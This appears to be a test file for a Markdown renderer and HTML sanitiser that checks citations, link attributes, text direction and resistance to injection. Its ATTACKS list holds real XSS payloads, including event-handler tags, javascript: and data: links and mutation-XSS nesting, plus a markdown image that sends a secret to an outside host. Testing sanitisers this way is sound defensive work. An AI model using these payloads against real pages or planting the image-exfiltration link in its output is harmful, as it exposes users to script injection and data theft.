import { expect, test } from "vitest";

import { clean } from "../src/lib/clean";
import { highlight } from "../src/lib/highlight";
import { blocks } from "../src/lib/markdown";

const html = (text: string, sources: number[] = []) =>
  blocks(text, new Set(sources))
    .map((block) => (block.kind === "html" ? block.html : highlight(block.code, block.language)))
    .join("");

const page = (text: string, sources: number[] = []) => {
  const root = document.createElement("div");
  root.innerHTML = html(text, sources);
  return root;
};

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "![x](javascript:alert(1))",
  "![words](https://example.org/steal?q=secret)",
  '[x](https://example.org/"onmouseover="alert(1))',
  "<form action=https://example.org><input name=q><button>go</button></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<style>@import 'https://example.org/x.css'</style>",
  "<p style='background:url(https://example.org)'>x</p>",
  "<b style=position:fixed>x</b>",
  "<object data=x></object><embed src=x><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
  "- <details open ontoggle=alert(1)>x</details>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
];

test.each(ATTACKS)("nothing in %s runs, loads or looks like a part of the page", (attack) => {
  const root = page(attack);
  const active = "script, img, svg, iframe, object, embed, link, meta, style, form, input, math, details, base, video";
  expect(root.querySelectorAll(active)).toHaveLength(0);
  for (const element of root.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^src|^srcdoc$|^formaction$/i);
      if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
    }
  }
});

test("the cleaner alone stops what Markdown would not", () => {
  for (const attack of ATTACKS) {
    const root = document.createElement("div");
    root.innerHTML = clean(attack);
    expect(root.querySelectorAll("script, img, svg, iframe, style, form, input, [style], [onerror]")).toHaveLength(0);
  }
});

test("raw HTML is shown as the text that it is", () => {
  expect(page("a <b>bold</b> claim").textContent).toContain("<b>bold</b>");
});

test("links open elsewhere and tell nothing about where they came from", () => {
  const link = page("[docs](https://example.org/a)").querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://example.org/a");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  expect(link?.getAttribute("target")).toBe("_blank");
});

test("every block has a direction of its own and code is left to right", () => {
  const root = page("مرحبا\n\nHello `code`\n\n- بند\n\n> quote\n\n| a |\n| - |\n| b |");
  for (const tag of ["p", "ul", "blockquote", "th", "td"]) {
    expect(root.querySelector(tag)?.getAttribute("dir")).toBe("auto");
  }
  expect(root.querySelector("code")?.getAttribute("dir")).toBe("ltr");
});

test("a number in brackets opens its source, and only where there is one", () => {
  const root = page('It says: "words." [1] And [7].', [1, 2]);
  expect(root.querySelector("button.cite")?.getAttribute("data-cite")).toBe("1");
  expect(root.querySelector("span.cite")?.textContent).toBe("7");
  expect(page("arr[0] and [12](https://example.org)", [12]).querySelector("button")).toBeNull();
});

test("top-level code is a block of its own, with its language", () => {
  expect(blocks("text\n\n```sql extra\nSELECT 1\n```")).toContainEqual({ kind: "code", language: "sql", code: "SELECT 1" });
});

test("while an answer grows, the blocks before the last do not change", () => {
  const text = "First paragraph.\n\nSecond **one**.\n\n- a\n- b\n\nLast.";
  const before = blocks(text.slice(0, 40));
  expect(blocks(text).slice(0, 2)).toEqual(before.slice(0, 2));
});
